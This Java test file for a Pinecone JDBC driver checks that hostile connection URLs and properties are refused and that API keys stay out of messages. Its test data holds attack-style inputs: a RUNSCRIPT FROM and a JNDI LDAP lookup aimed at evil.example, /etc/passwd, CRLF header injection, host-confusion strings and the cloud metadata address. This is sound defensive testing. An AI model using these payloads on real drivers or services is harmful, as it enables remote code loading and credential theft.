package io.github.pineconejdbc.trust;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static io.github.pineconejdbc.support.PineconeServer.KEY;
import static io.github.pineconejdbc.support.PineconeServer.backup;
import static io.github.pineconejdbc.support.PineconeServer.json;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.github.pineconejdbc.DocsTest;
import io.github.pineconejdbc.PineconeDriver;
import io.github.pineconejdbc.PineconeSchemaFactory;
import io.github.pineconejdbc.support.PineconeServer;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.DriverPropertyInfo;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.SQLNonTransientConnectionException;
import java.sql.Statement;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Properties;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whoever writes the URL gets a connection to a server, or an error, and nothing else. */
class HostileUrlTest {
    private static final String SECRET = "pcsk_5ecret";
    private static final String TAKES =
            ". It takes jdbc:pinecone:[//host[:port]][?name=value&...] or jdbc:pinecone:sandbox";
    private static final String HOST = "the host may hold letters, digits, hyphens and dots only; write an"
            + " international name in its xn-- form";
    private static final String IPV4 = "an IPv4 address is written as four decimal numbers from 0 to 255";
    private static final String IPV6 = "the brackets hold no IPv6 address";
    private static final String PORT = "the port has to be a number from 1 to 65535";
    private static final String PATH = "it can't hold a path after the host";
    private static final String USER = "it can't hold a user or a password before the host; give the key as apiKey";
    private static final String FORM = "after jdbc:pinecone: comes //host, sandbox, or ? and properties";
    private static boolean canaryLoaded;

    @RegisterExtension
    final PineconeServer pinecone = new PineconeServer();

    @TempDir
    private Path directory;

    /** What a property that names a class would load. */
    static final class Canary {
        static {
            canaryLoaded = true;
        }
    }

    static Stream<Arguments> dangerousNames() throws IOException {
        return DangerousProperties.read().stream()
                .flatMap(row -> row.names().stream().map(name -> Arguments.of(name, row.product())));
    }

    @ParameterizedTest(name = "{0} of {1}")
    @MethodSource("dangerousNames")
    void aDangerousNameIsAnErrorInTheUrlAndDroppedWithAWarningBesideIt(String name, String product) throws Exception {
        try (ServerSocketChannel canary = ServerSocketChannel.open()) {
            canary.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
            canary.configureBlocking(false);
            int port = ((InetSocketAddress) canary.getLocalAddress()).getPort();
            List<String> values = List.of(
                    Canary.class.getName(),
                    directory.resolve("canary").toString(),
                    "http://127.0.0.1:" + port + "/x",
                    "ldap://127.0.0.1:" + port + "/x",
                    "inline:{version:'1.0'}",
                    "true");
            for (String value : values) {
                assertThatThrownBy(() -> connect("jdbc:pinecone:sandbox?" + name + "=" + value, Map.of()))
                        .isExactlyInstanceOf(SQLNonTransientConnectionException.class)
                        .hasMessageMatching(
                                "The property '\\Q" + name + "\\E' is unknown; the nearest one is '[A-Za-z]+'");
                assertThatThrownBy(() -> new PineconeSchemaFactory()
                                .create(null, "pinecone", Map.of("url", "jdbc:pinecone:sandbox", name, value)))
                        .as("in a Calcite model, %s", product)
                        .isInstanceOf(IllegalArgumentException.class);
            }
            for (String value : values.subList(0, 3)) {
                try (Connection connection = connect("jdbc:pinecone:sandbox", Map.of(name, value));
                        Statement statement = connection.createStatement();
                        ResultSet rows = statement.executeQuery("SELECT status FROM backups LIMIT 1")) {
                    assertThat((Throwable) connection.getWarnings())
                            .hasMessage("The property '" + name + "' is unknown and ignored");
                    assertThat(rows.next()).isTrue();
                    assertThat(connection.getMetaData().getURL()).isEqualTo("jdbc:pinecone:sandbox");
                }
            }
            assertThat(canary.accept()).as("a call to the named server").isNull();
        }
        assertThat(canaryLoaded).as("the named class is loaded").isFalse();
        assertThat(directory).isEmptyDirectory();
    }

    @Test
    void theDangerousNamesAreDocumented() throws IOException {
        String rows = DangerousProperties.read().stream()
                .map(row -> "| " + row.product() + " | "
                        + row.names().stream().map(n -> "`" + n + "`").collect(Collectors.joining(", ")) + " | "
                        + row.does() + " | " + row.published() + " |\n")
                .collect(Collectors.joining());
        DocsTest.assertGenerated(
                "docs/security.md",
                "dangerous",
                "| product | properties | what they do there | published as |\n|---|---|---|---|\n" + rows);
    }

    static Stream<Arguments> badUrls() {
        return Stream.of(
                // Forms of other drivers' URLs
                bad("http://api.pinecone.io", FORM),
                bad("resource:http://evil.example/x", FORM),
                bad("mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x'", FORM),
                bad("inline:{version:'1.0'}", FORM),
                bad("sandbox;model=x", FORM),
                bad("sandbox/", FORM),
                bad("SANDBOX", FORM),
                bad("sandbox%00", FORM),
                bad("/etc/passwd", FORM),
                bad("\\\\server\\share", FORM),
                bad("jndi:ldap://evil.example/x", FORM),
                // Authority
                bad("//", "the host is empty"),
                bad("///", "the host is empty"),
                bad("//:443", "the host is empty"),
                bad("//user@api.pinecone.io", USER),
                bad("//user:" + SECRET + "@api.pinecone.io", USER),
                bad("//api.pinecone.io@evil.example", USER),
                bad("//api.pinecone.io/path", PATH),
                bad("//api.pinecone.io//", PATH),
                bad("//api.pinecone.io/../x", PATH),
                bad("//api.pinecone.io\\@evil.example", USER),
                bad("//api.pinecone.io\\.evil.example", PATH),
                bad("//evil.example\\.pinecone.io", PATH),
                bad("//api.pinecone.io#evil", "a fragment (#) has no meaning; write it as %23 within a value"),
                bad("sandbox?timeZone=UTC#x", "a fragment (#) has no meaning; write it as %23 within a value"),
                // Names
                bad("//evil.example;ssl=false", HOST),
                bad("// api.pinecone.io", HOST),
                bad("//api.pinecone.io ", HOST),
                bad("//api. pinecone.io", HOST),
                bad("//api.pinecone.io\t", HOST),
                bad("//api.pinecone.io\r\nHost: evil.example", HOST),
                bad("//evil.example\0.pinecone.io", HOST),
                bad("//evil.example%00.pinecone.io", HOST),
                bad("//%61pi.pinecone.io", HOST),
                bad("//evil.example%2f.pinecone.io", HOST),
                bad("//evil.example%252f.pinecone.io", HOST),
                bad("//evil.example%23.pinecone.io", HOST),
                bad("//evil.example%40api.pinecone.io", HOST),
                bad("//api..pinecone.io", HOST),
                bad("//.pinecone.io", HOST),
                bad("//api.pinecone.io..", HOST),
                bad("//.", HOST),
                bad("//-api.pinecone.io", HOST),
                bad("//api-.pinecone.io", HOST),
                bad("//a_b.pinecone.io", HOST),
                bad("//*.pinecone.io", HOST),
                bad("//" + "a".repeat(64) + ".io", HOST),
                bad("//" + "a.".repeat(127) + "io", HOST),
                bad("//p\u0456necone.io", HOST),
                bad("//api.pinecone\u3002io", HOST),
                bad("//\uff41pi.pinecone.io", HOST),
                bad("//pinecone.io\u202e", HOST),
                bad("//pine\u00adcone.io", HOST),
                bad("//evil.example\u2044.pinecone.io", HOST),
                bad("//api.pinecone.\u0131o", HOST),
                bad("//\ud800.pinecone.io", HOST),
                bad("//xn--\u00ef.io", HOST),
                bad("//xn--pnecone-x.pinecone.io", "the host is no name that can be looked up"),
                // Addresses
                bad("//0x7f.0.0.1", IPV4),
                bad("//0x7f000001", IPV4),
                bad("//0x", IPV4),
                bad("//2130706433", IPV4),
                bad("//017700000001", IPV4),
                bad("//0177.0.0.1", IPV4),
                bad("//127.0.0.01", IPV4),
                bad("//127.1", IPV4),
                bad("//127.0.1", IPV4),
                bad("//127.0.0.256", IPV4),
                bad("//127.0.0.1.", IPV4),
                bad("//1.2.3.4.5", IPV4),
                bad("//evil.example.1", IPV4),
                bad("//evil.example.0x1", IPV4),
                bad("//0.0.0.0", "the host is the unspecified address"),
                bad("//[::]", "the host is the unspecified address"),
                bad("//[0:0:0:0:0:0:0:0]", "the host is the unspecified address"),
                bad("//[::ffff:0.0.0.0]", "the host is the unspecified address"),
                bad("//[]", IPV6),
                bad("//[", IPV6),
                bad("//[::1", IPV6),
                bad("//[127.0.0.1]", IPV6),
                bad("//[api.pinecone.io]", IPV6),
                bad("//[v1.x]", IPV6),
                bad("//[1:2]", IPV6),
                bad("//[:::1]", IPV6),
                bad("//[1::2::3]", IPV6),
                bad("//[12345::]", IPV6),
                bad("//[fe80::1%eth0]", "an address can't hold a zone"),
                bad("//[fe80::1%25eth0]", "an address can't hold a zone"),
                bad("//[::1]x", IPV6),
                bad("//[::1][::2]", IPV6),
                bad("//::1", "an IPv6 address is written in brackets"),
                // Ports
                bad("//api.pinecone.io:", PORT),
                bad("//api.pinecone.io:0", PORT),
                bad("//api.pinecone.io:65536", PORT),
                bad("//api.pinecone.io:99999999999999999999", PORT),
                bad("//api.pinecone.io:-1", PORT),
                bad("//api.pinecone.io:+443", PORT),
                bad("//api.pinecone.io:443x", PORT),
                bad("//api.pinecone.io: 443", PORT),
                bad("//api.pinecone.io:443:443", PORT),
                bad("//api.pinecone.io:\uff14\uff14\uff13", PORT),
                bad("//api.pinecone.io:0x1bb", PORT),
                // Properties
                bad("?timeZone", "a property is written name=value"),
                bad("?=UTC", "a property is written name=value"),
                bad("?timeZone=UTC&timeZone=UTC", "the property 'timeZone' is given twice"),
                bad("?timeZone=UTC&TIMEZONE=UTC", "the property 'TIMEZONE' is given twice"),
                bad("?timeZone=UTC&time%5Aone=UTC", "the property 'timeZone' is given twice"),
                bad(
                        "?timeZone=%",
                        "the value of 'timeZone' holds a % that two hexadecimal digits don't follow; write % as %25"),
                bad(
                        "?timeZone=%4",
                        "the value of 'timeZone' holds a % that two hexadecimal digits don't follow; write % as %25"),
                bad(
                        "?timeZone=%+4",
                        "the value of 'timeZone' holds a % that two hexadecimal digits don't follow; write % as %25"),
                bad(
                        "?timeZone=%\uff14\uff11",
                        "the value of 'timeZone' holds a % that two hexadecimal digits don't follow; write % as %25"),
                bad("?%ZZ=1", "a property's name holds a % that two hexadecimal digits don't follow; write % as %25"),
                bad("?timeZone=%ff", "the value of 'timeZone' isn't UTF-8"),
                bad("?timeZone=%c0%af", "the value of 'timeZone' isn't UTF-8"),
                bad("?timeZone=%ed%a0%80", "the value of 'timeZone' isn't UTF-8"),
                bad("?timeZone=\ud800%41", "the value of 'timeZone' holds half a character"),
                Arguments.of("?apiKe=x", "The property 'apiKe' is unknown; the nearest one is 'apiKey'"),
                Arguments.of("?pagesize2=x", "The property 'pagesize...' is unknown; the nearest one is 'pageSize'"),
                Arguments.of("?\u017fsl=false", "The property '...' is unknown; the nearest one is 'ssl'"),
                Arguments.of("?api\u212aey=x", "The property 'api...' is unknown; the nearest one is 'apiKey'"),
                Arguments.of("?ap\u0131Key=x", "The property 'ap...' is unknown; the nearest one is 'apiKey'"),
                Arguments.of("?ssl=yes", "The property 'ssl' takes true or false"),
                Arguments.of("?ssl=", "The property 'ssl' takes true or false"),
                Arguments.of("sandbox?ssl=&password=x", "The property 'ssl' takes true or false"),
                Arguments.of(
                        "sandbox?password=&apiKey=", "The property 'apiKey' takes printable ASCII text without spaces"),
                Arguments.of(
                        "?8c85e612-ed1c-4f97-9f8c-8194e07bcf71=",
                        "The property '...' is unknown; the nearest one is 'connectTimeout'"),
                Arguments.of("?pcsk_2dWq7=x", "The property 'pcsk...' is unknown; the nearest one is 'password'"),
                Arguments.of("sandbox??ssl=true", "The property '...' is unknown; the nearest one is 'ssl'"),
                Arguments.of("sandbox?ssl=true?x", "The property 'ssl' takes true or false"),
                Arguments.of("?pageSize=0", "The property 'pageSize' takes a whole number from 1 to 100"),
                Arguments.of("?pageSize=1e1", "The property 'pageSize' takes a whole number from 1 to 100"),
                Arguments.of("?pageSize=%205", "The property 'pageSize' takes a whole number from 1 to 100"),
                Arguments.of("?pageSize=+5", "The property 'pageSize' takes a whole number from 1 to 100"),
                Arguments.of("?pageSize=\u0663", "The property 'pageSize' takes a whole number from 1 to 100"),
                Arguments.of("?maxRetries=-0", "The property 'maxRetries' takes a whole number from 0 to 100"),
                Arguments.of(
                        "?maxSecondsPerStatement=86401",
                        "The property 'maxSecondsPerStatement' takes a whole number from 0 to 86400"),
                Arguments.of(
                        "?maxCallsPerStatement=2147483648",
                        "The property 'maxCallsPerStatement' takes a whole number from 0"),
                Arguments.of(
                        "?connectTimeout=PT5S", "The property 'connectTimeout' takes a whole number from 1 to 86400"),
                Arguments.of("?pageSize=99999999999", "The property 'pageSize' takes a whole number from 1 to 100"),
                Arguments.of("?apiKey=", "The property 'apiKey' takes printable ASCII text without spaces"),
                Arguments.of(
                        "?apiKey=a%0d%0aX:%20y", "The property 'apiKey' takes printable ASCII text without spaces"),
                Arguments.of("?apiVersion=a%0ab", "The property 'apiVersion' takes printable ASCII text"),
                Arguments.of("?applicationName=a%0d%0ab", "The property 'applicationName' takes printable ASCII text"),
                Arguments.of("?proxyHost=a%20b", "The property 'proxyHost' takes the name or the address of a host"),
                Arguments.of("?proxyHost=", "The property 'proxyHost' takes the name or the address of a host"),
                Arguments.of("?proxyHost=p:8080", "The property 'proxyHost' takes the name or the address of a host"),
                Arguments.of(
                        "?proxyHost=127.0.0.1:8080",
                        "The property 'proxyHost' takes the name or the address of a host"),
                Arguments.of("?proxyHost=[p]", "The property 'proxyHost' takes the name or the address of a host"),
                Arguments.of(
                        "?proxyHost=" + "a".repeat(254),
                        "The property 'proxyHost' takes the name or the address of a host"),
                Arguments.of(
                        "?timeZone=Mars%2FBase",
                        "The property 'timeZone' takes a time zone such as Europe/Berlin, an offset such as +02:00,"
                                + " or local"),
                Arguments.of(
                        "",
                        "There is no API key: set the password, the property apiKey, or PINECONE_API_KEY in the environment"),
                Arguments.of(
                        "//example.com",
                        "There is no API key for 'example.com': set apiKey, or the password. PINECONE_API_KEY of the environment goes to"
                                + " pinecone.io and its subdomains only, by https"),
                Arguments.of("?apiKey=a&password=b", "apiKey and password are given, with different values"));
    }

    private static Arguments bad(String rest, String why) {
        return Arguments.of(rest, "Bad URL: " + why + TAKES);
    }

    @ParameterizedTest
    @MethodSource("badUrls")
    void aBadUrlIsRefusedWithAMessageThatSaysWhatItTakes(String rest, String message) {
        assertThatThrownBy(() -> connect("jdbc:pinecone:" + rest, Map.of()))
                .isExactlyInstanceOf(SQLNonTransientConnectionException.class)
                .hasMessage(message)
                .satisfies(e -> assertThat(((SQLException) e).getSQLState()).isEqualTo("08001"));
    }

    /** A separator forgotten or mistaken puts the key where it doesn't belong. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "?ssl=true;apiKey=" + SECRET,
                "?timeZone=UTC,apiKey=" + SECRET,
                "?pageSize=100 apiKey=" + SECRET,
                "?apiKey%3D" + SECRET,
                "?apiKey%3D" + SECRET + "=x",
                "?apiKey:" + SECRET + "=x",
                "?apiKey=" + SECRET + "%00",
                "?apiKey=" + SECRET + "&apiKey=" + SECRET,
                "?apiKey=" + SECRET + "&password=other",
                "?apiKey=" + SECRET + "%",
                "?apiKey=" + SECRET + "&nope=1",
                "?" + SECRET,
                "//" + SECRET + ":x@host?ssl=1",
                "//host:" + SECRET,
                "//host/" + SECRET,
                "//host_" + SECRET,
                "//host;apiKey=" + SECRET,
                "//[" + SECRET + "]",
                "#" + SECRET,
                SECRET,
            })
    void aSecretIsInNoMessageWhereverItStands(String rest) {
        SQLException e = catchThrowableOfType(SQLException.class, () -> connect("jdbc:pinecone:" + rest, Map.of()));
        StringWriter text = new StringWriter();
        e.printStackTrace(new PrintWriter(text));
        assertThat(text.toString())
                .contains("SQLNonTransientConnectionException")
                .doesNotContain(SECRET);
    }

    @Test
    void anUnknownNameBesideTheUrlIsShownOnlyAsFarAsItIsAName() throws SQLException {
        try (Connection connection = connect(
                "jdbc:pinecone:sandbox", Map.of("apiKey=" + SECRET, "x", "apiKey " + SECRET, "x", "\u001b[31m", "x"))) {
            assertThat((Iterable<Throwable>) connection.getWarnings())
                    .extracting(Throwable::getMessage)
                    .containsExactlyInAnyOrder(
                            "The property 'apiKey...' is unknown and ignored",
                            "The property 'apiKey...' is unknown and ignored",
                            "The property '...' is unknown and ignored");
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "applicationName=a=b|applicationName=a%3Db",
                "applicationName=a+b|applicationName=a%2Bb",
                "applicationName=a%20b%25c%26d|applicationName=a%20b%25c%26d",
                "APPLICATIONNAME=x|applicationName=x",
                "&&applicationName=x&|applicationName=x",
                "apiKey=" + SECRET + "|",
                "password=" + SECRET + "&apiKey=" + SECRET + "|",
                "user=me&proxyHost=p&proxyPassword=" + SECRET + "|proxyHost=p",
                "proxyHost=[::1]|proxyHost=%5B%3A%3A1%5D",
                "proxyHost=a_b.internal.|proxyHost=a_b.internal.",
            })
    void theUrlOfAConnectionIsTheOneGivenWithoutItsSecrets(String given, String kept) throws SQLException {
        try (Connection connection = connect("jdbc:pinecone:sandbox?" + given, Map.of("user", ""))) {
            assertThat(connection.getMetaData().getURL())
                    .isEqualTo("jdbc:pinecone:sandbox" + (kept == null ? "" : "?" + kept));
            connect(connection.getMetaData().getURL(), Map.of()).close();
        }
    }

    /** A number where a text belongs is no reason to go on with the default, nor with the environment's key. */
    @Test
    void aKnownPropertyThatIsNoTextIsAnError() throws SQLException {
        for (String name : List.of("pageSize", "PAGESIZE", "ssl", "apiKey", "timeZone")) {
            Properties properties = new Properties(withDefault(name));
            properties.put(name, new StringBuilder(SECRET));
            assertThatThrownBy(() -> new PineconeDriver().connect("jdbc:pinecone:sandbox", properties))
                    .isExactlyInstanceOf(SQLNonTransientConnectionException.class)
                    .hasMessageMatching("The property '(?i:" + name + ")' has to be given as text");
        }
        try (Connection connection = connect("jdbc:pinecone:sandbox", Map.of("nope", 5))) {
            assertThat((Throwable) connection.getWarnings()).hasMessage("The property 'nope' is no text and ignored");
        }
    }

    private static Properties withDefault(String name) {
        Properties defaults = new Properties();
        defaults.setProperty(name, "UTC");
        return defaults;
    }

    @Test
    void theDefaultsOfPropertiesCountToo() {
        Properties properties = new Properties(withDefault("pageSize"));
        assertThatThrownBy(() -> new PineconeDriver().connect("jdbc:pinecone:sandbox", properties))
                .hasMessage("The property 'pageSize' takes a whole number from 1 to 100");
    }

    /** A form's template holds an empty password, and the form's field the key. */
    @Test
    void anEmptyPasswordIsNoneWhereverItStands() throws SQLException {
        connect("jdbc:pinecone:sandbox?password=", Map.of("password", KEY)).close();
        connect("jdbc:pinecone:sandbox?password=" + KEY, Map.of("password", "")).close();
        connect("jdbc:pinecone:sandbox?password=&user=x", Map.of("password", "", "user", "y"))
                .close();
    }

    @Test
    void aLoginTimeoutBelowZeroIsNone() throws SQLException {
        int before = DriverManager.getLoginTimeout();
        DriverManager.setLoginTimeout(-5);
        try (Connection connection = connect(pinecone.url("&timeZone=+01:00"), Map.of())) {
            assertThat(connection.isValid(1)).isTrue();
        } finally {
            DriverManager.setLoginTimeout(before);
        }
    }

    static Stream<Arguments> operands() {
        return Stream.of(
                Arguments.of(operand("pageSize", List.of(5)), "The property 'pageSize' has to be given as text"),
                Arguments.of(operand("apiKey", Map.of("a", SECRET)), "The property 'apiKey' has to be given as text"),
                Arguments.of(operand("pageSize", 5.5), "The property 'pageSize' takes a whole number from 1 to 100"),
                Arguments.of(operand("URL", "jdbc:pinecone:"), "The property 'url' is given twice"),
                Arguments.of(operand("url", null), "There is no API key: set the password, the property apiKey,"),
                Arguments.of(operand("url", List.of()), "The property 'url' has to be given as text"));
    }

    private static Map<String, Object> operand(String name, @Nullable Object value) {
        Map<String, Object> operand = new LinkedHashMap<>();
        operand.put("url", "jdbc:pinecone:sandbox");
        operand.put(name, value);
        return operand;
    }

    @ParameterizedTest
    @MethodSource("operands")
    void aBadOperandOfACalciteModelIsNamed(Map<String, Object> operand, String message) {
        assertThatThrownBy(() -> new PineconeSchemaFactory().create(null, "pinecone", operand))
                .isExactlyInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith(message)
                .hasMessageNotContaining(SECRET);
    }

    @Test
    void aNullOperandIsNone() {
        assertThat(new PineconeSchemaFactory().create(null, "pinecone", operand("apiKey", null)))
                .isNotNull();
        assertThat(new PineconeSchemaFactory().create(null, "pinecone", operand("pageSize", 5)))
                .isNotNull();
        Map<String, Object> server = new LinkedHashMap<>();
        server.put("url", "jdbc:pinecone://example.com");
        server.put("apiKey", null);
        assertThatThrownBy(() -> new PineconeSchemaFactory().create(null, "pinecone", server))
                .hasMessageStartingWith("There is no API key for 'example.com'");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"localhost", "LOCALHOST", "127.0.0.1", "[::ffff:127.0.0.1]", "[::FFFF:7f00:1]", "localhost."})
    void plainHttpReachesALoopbackAddress(String host) throws SQLException {
        String url = "jdbc:pinecone://" + host + ":" + pinecone.wireMock().port() + "/?ssl=false";
        try (Connection connection = connect(url, Map.of("apiKey", KEY))) {
            assertThat(connection.getMetaData().getURL())
                    .matches("jdbc:pinecone://(localhost|127\\.0\\.0\\.1):\\d+\\?ssl=false");
            assertThat(connection.isValid(5)).isTrue();
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "10.0.0.1|'10.0.0.1' is 10.0.0.1: the key would travel unencrypted",
                "192.0.2.1|'192.0.2.1' is 192.0.2.1: the key would travel unencrypted",
                "169.254.169.254|'169.254.169.254' is 169.254.169.254: the key would travel unencrypted",
                "126.255.255.255|'126.255.255.255' is 126.255.255.255: the key would travel unencrypted",
                "128.0.0.1|'128.0.0.1' is 128.0.0.1: the key would travel unencrypted",
                "[fe80::1]|'fe80::1' is fe80:0:0:0:0:0:0:1: the key would travel unencrypted",
                "[::2]|'::2' is 0:0:0:0:0:0:0:2: the key would travel unencrypted",
                "[::ffff:10.0.0.1]|'10.0.0.1' is 10.0.0.1: the key would travel unencrypted",
                "localhost.evil.invalid|'localhost.evil.invalid' has no address",
                "127.0.0.1.evil.invalid|'127.0.0.1.evil.invalid' has no address",
            })
    void plainHttpReachesNoOtherAddress(String host, String why) {
        assertThatThrownBy(() -> connect("jdbc:pinecone://" + host + "?ssl=FALSE", Map.of("apiKey", KEY)))
                .isExactlyInstanceOf(SQLNonTransientConnectionException.class)
                .hasMessage("ssl=false works with a loopback address only, and " + why);
    }

    /** Prints why it can't connect to each of its arguments. */
    static final class Connecting {
        private Connecting() {}

        public static void main(String[] hosts) throws SQLException {
            for (String host : hosts) {
                try (Connection connection =
                        connect("jdbc:pinecone://" + host + "?ssl=false&maxRetries=0", Map.of("apiKey", KEY))) {
                    System.out.println(connection.getMetaData().getURL());
                } catch (SQLNonTransientConnectionException e) {
                    System.out.println(e.getMessage());
                }
            }
        }
    }

    /** The JVM or the system may say that localhost is elsewhere. */
    @Test
    void plainHttpGoesByTheAddressAndNotByTheName() throws Exception {
        Path hosts = directory.resolve("hosts");
        Files.writeString(hosts, """
                192.0.2.1 localhost
                127.0.0.1 loop.example
                127.0.0.1 both.example
                192.0.2.2 both.example
                """);
        int port = pinecone.wireMock().port();
        Process jvm = new ProcessBuilder(
                        Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                        "-Djdk.net.hosts.file=" + hosts,
                        "-cp",
                        System.getProperty("java.class.path"),
                        Connecting.class.getName(),
                        "localhost:" + port,
                        "LOCALHOST.:" + port,
                        "both.example:" + port,
                        "loop.example:" + port)
                .redirectErrorStream(true)
                .start();
        assertThat(new String(jvm.getInputStream().readAllBytes(), StandardCharsets.UTF_8).lines())
                .containsExactly(
                        "ssl=false works with a loopback address only, and 'localhost' is 192.0.2.1: the key would travel"
                                + " unencrypted",
                        "ssl=false works with a loopback address only, and 'localhost' is 192.0.2.1: the key would travel"
                                + " unencrypted",
                        "ssl=false works with a loopback address only, and 'both.example' is 192.0.2.2: the key would"
                                + " travel unencrypted",
                        "jdbc:pinecone://loop.example:" + port + "?ssl=false&maxRetries=0");
        assertThat(pinecone.requests()).containsExactly("GET /backups?limit=1");
    }

    @ParameterizedTest
    @ValueSource(ints = {300, 301, 302, 303, 307, 308})
    void aRedirectIsNotFollowedWhereverItLeads(int status) throws SQLException {
        pinecone.answers(
                "/backups/here",
                aResponse()
                        .withStatus(status)
                        .withHeader("Location", pinecone.wireMock().baseUrl() + "/backups/there"));
        pinecone.answers(
                "/backups/away",
                aResponse()
                        .withStatus(status)
                        .withHeader(
                                "Location",
                                "http://localhost:" + pinecone.wireMock().port() + "/backups/there"));
        pinecone.serves(backup("there"));
        try (Connection connection = pinecone.connect();
                Statement statement = connection.createStatement()) {
            for (String id : List.of("here", "away")) {
                assertThatThrownBy(() -> statement
                                .executeQuery("SELECT status FROM backups WHERE backup_id = '" + id + "'")
                                .next())
                        .isInstanceOf(SQLException.class)
                        .hasMessageContaining("GET /backups/" + id + " answered " + status);
            }
        }
        assertThat(pinecone.requests()).containsExactly("GET /backups/away", "GET /backups/here");
    }

    @Test
    void aRedirectAtConnectIsNotFollowed() {
        pinecone.wireMock()
                .stubFor(any(anyUrl())
                        .atPriority(1)
                        .willReturn(aResponse().withStatus(307).withHeader("Location", "/backups?limit=2")));
        assertThatThrownBy(() -> connect(pinecone.url("&timeZone=local"), Map.of()))
                .isInstanceOf(SQLException.class)
                .hasMessageContaining("answered 307");
        assertThat(pinecone.requests()).containsExactly("GET /backups?limit=1");
    }

    /** Where I lowers to a dotless i, names written by ASCII rules have to match all the same. */
    @Test
    void namesMatchInTurkishToo() throws SQLException {
        Locale before = Locale.getDefault();
        Locale.setDefault(Locale.forLanguageTag("tr-TR"));
        try (Connection connection = connect(
                "jdbc:pinecone:sandbox?PAGESIZE=5&TIMEZONE=UTC&APIVERSION=x&PROXYPORT=1&MAPAS=JSON",
                Map.of("APPLICATIONNAME", "x", "apikey", KEY))) {
            assertThat((Throwable) connection.getWarnings()).isNull();
            assertThat(connection.getMetaData().getURL())
                    .contains("pageSize=5", "apiVersion=x", "mapAs=JSON", "applicationName=x");
            assertThatThrownBy(() -> connect("jdbc:pinecone:sandbox?MAXRETRIE=1", Map.of()))
                    .hasMessage("The property 'MAXRETRIE' is unknown; the nearest one is 'maxRetries'");
        } finally {
            Locale.setDefault(before);
        }
    }

    @Test
    void propertyInfoShowsWhatIsGivenButNoSecret() {
        Properties properties = new Properties();
        properties.setProperty("PAGESIZE", "7");
        properties.setProperty("password", SECRET);
        properties.setProperty("socketFactory", "x");
        DriverPropertyInfo[] info = new PineconeDriver()
                .getPropertyInfo("jdbc:pinecone:?timeZone=Asia/Tokyo&apiKey=" + SECRET + "&nope=1", properties);
        Map<String, String> values =
                Arrays.stream(info).filter(i -> i.value != null).collect(Collectors.toMap(i -> i.name, i -> i.value));
        assertThat(values).containsEntry("pageSize", "7").containsEntry("timeZone", "Asia/Tokyo");
        assertThat(values).doesNotContainKeys("apiKey", "password", "proxyPassword", "nope", "socketFactory");
        assertThat(values.toString()).doesNotContain(SECRET);
        assertThat(Arrays.stream(info).map(i -> i.name)).contains("apiKey", "password", "ssl");
        assertThat(info).isNotEmpty().allSatisfy(i -> {
            assertThat(i.description).isNotBlank();
            assertThat(i.required).isFalse();
        });
        assertThat(new PineconeDriver().getPropertyInfo("jdbc:pinecone://[", null))
                .hasSameSizeAs(info);
        assertThat(new PineconeDriver().getPropertyInfo("jdbc:other:", null)).hasSameSizeAs(info);
    }

    @Test
    void aMillionPropertiesAreRefusedAtOnce() {
        StringBuilder url = new StringBuilder("jdbc:pinecone:?");
        for (int i = 0; i < 1_000_000; i++) {
            url.append('n').append(i).append("=%41&");
        }
        assertThatThrownBy(() -> connect(url.toString(), Map.of()))
                .hasMessage("The property 'n...' is unknown; the nearest one is 'ssl'");
    }

    @Test
    void aBackupIsStillReachedByTheUrl() throws SQLException {
        pinecone.answers("/backups/b1", json(backup("b1").toString()));
        try (Connection connection = connect(pinecone.url(""), Map.of("user", "", "password", ""));
                Statement statement = connection.createStatement();
                ResultSet rows = statement.executeQuery("SELECT status FROM backups WHERE backup_id = 'b1'")) {
            assertThat(rows.next()).isTrue();
            assertThat((Throwable) connection.getWarnings()).isNull();
        }
    }

    private static Connection connect(String url, Map<String, ?> beside) throws SQLException {
        Properties properties = new Properties();
        properties.putAll(beside);
        return new PineconeDriver().connect(url, properties);
    }
}
